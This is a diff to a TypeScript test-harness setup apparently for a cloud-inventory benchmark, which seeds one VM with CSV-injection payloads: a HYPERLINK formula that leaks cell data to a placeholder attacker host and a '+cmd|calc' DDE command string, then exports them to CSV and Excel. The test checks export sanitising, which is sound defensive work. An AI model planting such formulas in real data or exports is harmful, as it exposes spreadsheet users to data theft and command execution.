@@ -168,10 +168,12 @@ export async function setup(h: Harness, csvUrl: string, log: (s: string) => void
           cloud_service_type: 'Instance',
           cloud_service_group: 'EC2',
           provider: 'aws',
-          name: `vm-${i}`,
+          // CSV injection (issue #23): a prod machine whose name and note would be formulas; the CSV
+          // exports (and the oracle's check of every CSV answer) meet them
+          name: i === 7 ? '=HYPERLINK("http://evil.example/?"&A1,"click")' : `vm-${i}`,
           region_code: i % 2 ? 'us-east-1' : 'eu-west-1',
           ip_addresses: [`10.0.0.${i}`],
-          data: { power_state: i % 3 ? 'running' : 'stopped', cpu: i % 4, disks: [{ size: 10 }] },
+          data: { power_state: i % 3 ? 'running' : 'stopped', cpu: i % 4, disks: [{ size: 10 }], ...(i === 7 && { note: '+cmd|calc', delta: -5 }) },
           tags: { env: i % 2 ? 'prod' : 'dev', team: 'sre' },
           project_id: PROJECT,
         },
@@ -182,7 +184,7 @@ export async function setup(h: Harness, csvUrl: string, log: (s: string) => void
     for (const file_format of ['CSV', 'EXCEL']) {
       const e = await must('inventory', '/inventory/v1/cloud-service/export', {
         file_format,
-        options: [{ name: 'VMs', query_type: 'SEARCH', search_query: { filter: [{ key: 'tags.env', value: 'prod', operator: 'eq' }], fields: ['name', 'region_code', 'data.cpu'] } }],
+        options: [{ name: 'VMs', query_type: 'SEARCH', search_query: { filter: [{ key: 'tags.env', value: 'prod', operator: 'eq' }], fields: ['name', 'region_code', 'data.cpu', 'data.note', 'data.delta'] } }],
       });
       pools.downloadTokens.push(String(e.download_url).split('/').pop()!);
     }
